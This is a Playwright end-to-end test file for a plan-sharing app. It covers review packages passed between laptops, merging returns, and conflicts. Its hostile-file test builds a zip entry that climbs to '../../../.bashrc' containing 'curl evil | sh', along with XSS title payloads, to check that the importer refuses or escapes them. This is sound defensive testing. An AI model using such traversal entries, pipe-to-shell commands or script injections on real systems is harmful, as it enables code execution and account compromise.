import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Browser, type BrowserContext, type Locator, type Page } from '@playwright/test';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { readPlanFile } from '../../shared/exchange';
import { stableJson } from '../../shared/exchange/testing/canonical';
import { COLLECTIONS, COLLECTION_TYPES, type PlanState } from '../../shared/exchange/state';
import { backToLibrary, clickNode, createPlan, expectEditorReady, expectSaved, inspector, nodeByTitle, openLibrary, planRow, type RoleName } from './support/app';
import { planStatus, reviewForm, subjectTitle } from './support/review';

/**
 * Plans between laptops. Each laptop is its own browser context (its own IndexedDB):
 * marketing sends a review package; two reps import it, review offline and send their
 * reviews back; marketing merges both returns, in either order, to the same plan; a title
 * edited on two marketing laptops at once comes back as a conflict; the same return twice
 * changes nothing; broken and hostile files are refused or shown as plain text, and the
 * library stays as it was.
 */

const PLAN = 'Tết 2027 · 新年檔期';
/** Where screenshots go when E2E_SHOTS names a folder (to look at the dialogs). */
const SHOTS = process.env.E2E_SHOTS;

interface Laptop {
  context: BrowserContext;
  page: Page;
}

async function laptop(browser: Browser, person: { name: string; role: RoleName }): Promise<Laptop> {
  const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, locale: 'en-US', acceptDownloads: true });
  const page = await context.newPage();
  await openLibrary(page, person);
  return { context, page };
}

async function shot(page: Page, name: string) {
  if (!SHOTS) return;
  mkdirSync(SHOTS, { recursive: true });
  await page.screenshot({ path: join(SHOTS, `${name}.png`) });
}

function shareMenu(page: Page): Locator {
  return page.getByRole('menu', { name: 'Share and import' });
}

async function openShareMenu(page: Page): Promise<Locator> {
  await page.locator('.editor-toolbar').getByRole('button', { name: 'Share', exact: true }).click();
  await expect(shareMenu(page)).toBeVisible();
  return shareMenu(page);
}

/** Runs a Share menu command that downloads a file, and keeps the file. */
async function download(page: Page, item: string, folder: string): Promise<{ path: string; name: string }> {
  const menu = await openShareMenu(page);
  const [file] = await Promise.all([page.waitForEvent('download'), menu.getByRole('menuitem', { name: item }).click()]);
  const path = join(folder, file.suggestedFilename());
  await file.saveAs(path);
  return { path, name: file.suggestedFilename() };
}

/** Picks a file for Import: from the library header, or the editor's Share menu. */
async function importFile(page: Page, path: string, from: 'library' | 'editor' = 'library') {
  const chooser = page.waitForEvent('filechooser');
  if (from === 'library') await page.getByRole('banner').getByRole('button', { name: 'Import', exact: true }).click();
  else await (await openShareMenu(page)).getByRole('menuitem', { name: 'Import a plan file…' }).click();
  await (await chooser).setFiles(path);
}

/** Drops a file on the window, as a person dragging it from the desktop would. */
async function dropFile(page: Page, path: string, name: string) {
  const bytes = [...readFileSync(path)];
  const dataTransfer = await page.evaluateHandle(
    ({ bytes, name }) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([new Uint8Array(bytes)], name));
      return transfer;
    },
    { bytes, name },
  );
  await page.dispatchEvent('main', 'dragover', { dataTransfer });
  await expect(page.getByText('Drop the plan file to import it')).toBeVisible();
  await page.dispatchEvent('main', 'drop', { dataTransfer });
}

function previewDialog(page: Page): Locator {
  return page.getByRole('dialog', { name: `Merge into “${PLAN}”?` });
}

function refusal(page: Page): Locator {
  return page.getByRole('dialog', { name: 'This file can’t be imported' });
}

/** A rep walks review mode and records a verdict (keys 1–4) with an objection on the first element. */
async function reviewFirstElement(page: Page, key: '1' | '2' | '3', objection: string): Promise<string> {
  await page.getByRole('button', { name: 'Review mode' }).click();
  const element = (await subjectTitle(page).innerText()).trim();
  await page.locator('body').press(key);
  const form = reviewForm(page);
  await form.getByRole('textbox', { name: 'Customer objections heard' }).fill(objection);
  await form.getByRole('textbox', { name: 'Customer objections heard' }).press('Control+Enter');
  await expect(page.getByText(`Review of “${element}” saved.`)).toBeVisible();
  await page.getByRole('button', { name: 'Back to canvas' }).click();
  await expectEditorReady(page, PLAN);
  return element;
}

/** A plan file as the test compares plans: every record and the set of changes; not who exported it or when. */
function canonicalOf(path: string): string {
  const read = readPlanFile(new Uint8Array(readFileSync(path)));
  if (!read.ok) throw new Error(`${path}: ${read.error.code} ${read.error.detail}`);
  const state: PlanState = read.file.content;
  const byId = <T extends { id: string }>(rows: readonly T[]) => [...rows].sort((a, b) => (a.id < b.id ? -1 : 1));
  return stableJson({
    plan: { ...state.plan, updatedAt: 0 },
    ...Object.fromEntries(COLLECTION_TYPES.map((type) => [type, byId(state[COLLECTIONS[type]] as Array<{ id: string }>)])),
    changes: state.changes.map((c) => c.id).sort(),
  });
}

function contentOf(path: string): PlanState {
  const read = readPlanFile(new Uint8Array(readFileSync(path)));
  if (!read.ok) throw new Error(read.error.code);
  return read.file.content;
}

/** A file rewritten entry by entry (names and bytes), zipped again. */
function rezip(path: string, rewrite: (entries: Record<string, Uint8Array>) => Record<string, Uint8Array>): Buffer {
  return Buffer.from(zipSync(rewrite(unzipSync(new Uint8Array(readFileSync(path))))));
}

async function libraryRows(page: Page): Promise<string[]> {
  return page.getByRole('row').allInnerTexts();
}

test('a plan goes to two reps, comes back reviewed, and merges the same in either order', async ({ browser }, testInfo) => {
  test.setTimeout(420_000);
  const files = testInfo.outputPath('files');
  mkdirSync(files, { recursive: true });

  // Marketing drafts from the paired template and sends it for field review.
  const mai = await laptop(browser, { name: 'Mai Trần', role: 'Marketing' });
  await createPlan(mai.page, PLAN);
  await expect(planStatus(mai.page, 'Draft')).toBeVisible();
  await openShareMenu(mai.page);
  await shot(mai.page, 'share-menu-marketing');
  await mai.page.keyboard.press('Escape');
  await expect(shareMenu(mai.page)).toHaveCount(0);
  const pkg = await download(mai.page, 'Send for field review…', files);
  expect(pkg.name).toBe(`${PLAN} - field review.cwplan`);
  await expect(planStatus(mai.page, 'In field review')).toBeVisible();
  expect(contentOf(pkg.path).plan.status).toBe('inFieldReview');

  // Two reps open it on their own laptops (one picks the file, one drops it), go offline and review.
  const binh = await laptop(browser, { name: 'Bình Nguyễn', role: 'Sales' });
  await importFile(binh.page, pkg.path);
  await expectEditorReady(binh.page, PLAN);
  await expect(binh.page.getByText(`Opened “${PLAN}” from ${pkg.name}.`)).toBeVisible();
  await expect(planStatus(binh.page, 'In field review')).toBeVisible();

  const lan = await laptop(browser, { name: 'Lan Phạm', role: 'Sales' });
  await dropFile(lan.page, pkg.path, pkg.name);
  await expectEditorReady(lan.page, PLAN);

  await binh.context.setOffline(true);
  await lan.context.setOffline(true);
  const reviewed = await reviewFirstElement(binh.page, '3', 'Khách chê giá cao hơn đối thủ 20%');
  expect(await reviewFirstElement(lan.page, '1', '客戶說價格可以接受')).toBe(reviewed);
  await openShareMenu(binh.page);
  await shot(binh.page, 'share-menu-sales');
  await binh.page.keyboard.press('Escape');
  const fromBinh = await download(binh.page, 'Export my review…', files);
  const fromLan = await download(lan.page, 'Export my review…', files);
  expect(fromBinh.name).toBe(`${PLAN} - review by Bình Nguyễn.cwplan`);
  // A return holds what the rep did, not the whole plan.
  const binhReturn = contentOf(fromBinh.path);
  expect(new Set(binhReturn.changes.map((c) => c.author)).size).toBe(1);
  expect(binhReturn.elements).toEqual([]);

  // Marketing merges Bình's review, then Lan's, each after a preview; a second window on the plan follows.
  const maiSecond = await mai.context.newPage();
  await maiSecond.goto(mai.page.url());
  await expectEditorReady(maiSecond, PLAN);
  await importFile(mai.page, fromBinh.path, 'editor');
  const preview = previewDialog(mai.page);
  await expect(preview).toBeVisible();
  await expect(preview).toContainText('A field return');
  await expect(preview.getByRole('row', { name: /^Reviews/ })).toContainText('1');
  await expect(preview.getByRole('heading', { name: 'No conflicts.' })).toBeVisible();
  await expect(preview.getByRole('listitem').filter({ hasText: `Bình Nguyễn · Sales on “${reviewed}”: Not feasible` })).toBeVisible();
  await shot(mai.page, 'preview-return');
  await preview.getByRole('button', { name: 'Apply' }).click();
  await expect(preview).toHaveCount(0);
  await expect(nodeByTitle(mai.page, reviewed).locator('.review-badge')).toContainText('Not feasible');
  await expect(nodeByTitle(maiSecond, reviewed).locator('.review-badge')).toContainText('Not feasible');
  await maiSecond.close();
  await importFile(mai.page, fromLan.path, 'editor');
  await previewDialog(mai.page).getByRole('button', { name: 'Apply' }).click();
  await expect(mai.page.getByText(`Merged ${fromLan.name} into “${PLAN}”.`)).toBeVisible();
  await expectSaved(mai.page);
  const mergedHere = await download(mai.page, 'Export plan…', files);

  // A second marketing laptop, fed the same package, merges the returns the other way round.
  const hoa = await laptop(browser, { name: 'Hòa Lê', role: 'Marketing' });
  await importFile(hoa.page, pkg.path);
  await expectEditorReady(hoa.page, PLAN);
  for (const back of [fromLan, fromBinh]) {
    await importFile(hoa.page, back.path, 'editor');
    await previewDialog(hoa.page).getByRole('button', { name: 'Apply' }).click();
    await expect(previewDialog(hoa.page)).toHaveCount(0);
    await expect(hoa.page.getByText(`Merged ${back.name} into “${PLAN}”.`)).toBeVisible();
  }
  const mergedThere = await download(hoa.page, 'Export plan…', files);
  expect(canonicalOf(mergedThere.path)).toBe(canonicalOf(mergedHere.path));
  expect(contentOf(mergedHere.path).reviews.map((r) => r.authorName).sort()).toEqual(['Bình Nguyễn', 'Lan Phạm']);

  // The same return again: the preview says there is nothing new, and the plan stays as it is.
  await importFile(mai.page, fromBinh.path, 'editor');
  await expect(previewDialog(mai.page)).toContainText('Nothing new: your copy already has everything in this file.');
  await previewDialog(mai.page).getByRole('button', { name: 'Close' }).click();
  expect(canonicalOf((await download(mai.page, 'Export plan…', files)).path)).toBe(canonicalOf(mergedHere.path));

  // Both marketing laptops retitle the same element without seeing each other's edit.
  const title = inspector(mai.page).getByRole('textbox', { name: 'Title' });
  await clickNode(mai.page, nodeByTitle(mai.page, reviewed));
  await inspector(mai.page).getByRole('tab', { name: 'Details' }).click();
  await title.fill('Giá theo gói 3 tháng');
  await clickNode(hoa.page, nodeByTitle(hoa.page, reviewed));
  await inspector(hoa.page).getByRole('tab', { name: 'Details' }).click();
  await inspector(hoa.page).getByRole('textbox', { name: 'Title' }).fill('按季訂閱價');
  await expectSaved(mai.page);
  await expectSaved(hoa.page);
  const fromHoa = await download(hoa.page, 'Export plan…', files);
  await importFile(mai.page, fromHoa.path, 'editor');
  await expect(previewDialog(mai.page).getByRole('heading', { name: '1 conflict' })).toBeVisible();
  await expect(previewDialog(mai.page).getByRole('row', { name: /^Elements/ })).toContainText('1');
  await shot(mai.page, 'preview-conflict');
  await previewDialog(mai.page).getByRole('button', { name: 'Apply' }).click();
  await expect(previewDialog(mai.page)).toHaveCount(0);
  // Both versions are kept: one shows, the other waits in the conflict.
  const both = await download(mai.page, 'Export plan…', files);
  const [conflict] = contentOf(both.path).conflicts.filter((c) => !c.deleted);
  const element = contentOf(both.path).elements.find((e) => e.id === conflict!.entityId)!;
  expect([element.title, ...conflict!.versions.map((v) => v.value)].sort()).toEqual(['Giá theo gói 3 tháng', '按季訂閱價'].sort());
  await expect(nodeByTitle(mai.page, element.title)).toBeVisible();

  // Marketing resolves it on the spot, taking the other laptop's title: an attributed edit.
  const theirs = conflict!.versions[0]!.value!;
  await clickNode(mai.page, nodeByTitle(mai.page, element.title));
  const section = inspector(mai.page).getByRole('region', { name: 'Changed on two laptops at once' });
  await section.getByRole('group', { name: /^Other version/ }).getByRole('button', { name: 'Take this one' }).click();
  await expect(section).toHaveCount(0);
  await expect(nodeByTitle(mai.page, theirs)).toBeVisible();
  await expectSaved(mai.page);

  for (const one of [mai, binh, lan, hoa]) await one.context.close();
});

test('broken and hostile files are refused or shown as plain text, and the library stays as it was', async ({ browser }, testInfo) => {
  test.setTimeout(240_000);
  const files = testInfo.outputPath('files');
  mkdirSync(files, { recursive: true });
  const mai = await laptop(browser, { name: 'Mai Trần', role: 'Marketing' });
  await createPlan(mai.page, PLAN);
  const whole = await download(mai.page, 'Export plan…', files);
  await backToLibrary(mai.page);

  const other = await laptop(browser, { name: 'Bình Nguyễn', role: 'Sales' });
  const before = await libraryRows(other.page);

  // Cut short, as by a failed download.
  const truncated = join(files, 'truncated.cwplan');
  const bytes = readFileSync(whole.path);
  writeFileSync(truncated, bytes.subarray(0, Math.floor(bytes.length * 0.6)));
  await importFile(other.page, truncated);
  await expect(refusal(other.page).getByRole('alert')).toContainText('The file is incomplete');
  await expect(refusal(other.page).getByRole('alert')).toContainText('Nothing was changed in your library.');
  await shot(other.page, 'refused-truncated');
  await refusal(other.page).getByRole('button', { name: 'Close' }).click();

  // An entry that climbs out of the archive.
  const traversal = join(files, 'traversal.cwplan');
  writeFileSync(
    traversal,
    rezip(whole.path, (entries) => ({ ...entries, '../../../.bashrc': strToU8('curl evil | sh') })),
  );
  await importFile(other.page, traversal);
  await expect(refusal(other.page).getByRole('alert')).toContainText('unsafe name');
  await refusal(other.page).getByRole('button', { name: 'Close' }).click();

  // A field return for a plan this laptop never had.
  const lan = await laptop(browser, { name: 'Lan Phạm', role: 'Sales' });
  await importFile(lan.page, whole.path);
  await expectEditorReady(lan.page, PLAN);
  await reviewFirstElement(lan.page, '2', 'OK');
  const back = await download(lan.page, 'Export my review…', files);
  await importFile(other.page, back.path);
  await expect(refusal(other.page).getByRole('alert')).toContainText('This is a field return for a plan that isn’t on this laptop.');
  await refusal(other.page).getByRole('button', { name: 'Close' }).click();
  expect(await libraryRows(other.page)).toEqual(before);
  await expect(planRow(other.page, PLAN)).toHaveCount(0);

  // Markup and script in every title of a well-formed file: imported, and shown as the text it is.
  const hostile = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>';
  const hostileFile = join(files, 'hostile.cwplan');
  writeFileSync(
    hostileFile,
    rezip(whole.path, (entries) => {
      const manifest = strFromU8(entries['manifest.json']!);
      const titles = [...new Set([...manifest.matchAll(/"title":("(?:[^"\\]|\\.)*")/g)].map((m) => m[1]!))];
      let rewritten = manifest;
      titles.forEach((quoted, i) => {
        rewritten = rewritten.split(quoted).join(JSON.stringify(`${hostile} ${i}`));
      });
      return { ...entries, 'manifest.json': strToU8(rewritten) };
    }),
  );
  await importFile(other.page, hostileFile);
  await expect(other.page.getByRole('heading', { level: 1, name: /^<img src=x onerror=/ })).toBeVisible();
  await expect(other.page.locator('.react-flow__node').first()).toBeVisible();
  await expect(other.page.locator('.element-node__title').filter({ hasText: '<script>window.__pwned=2</script>' }).first()).toBeVisible();
  expect(await other.page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(await other.page.locator('.react-flow img, .react-flow script').count()).toBe(0);

  for (const one of [mai, other, lan]) await one.context.close();
});
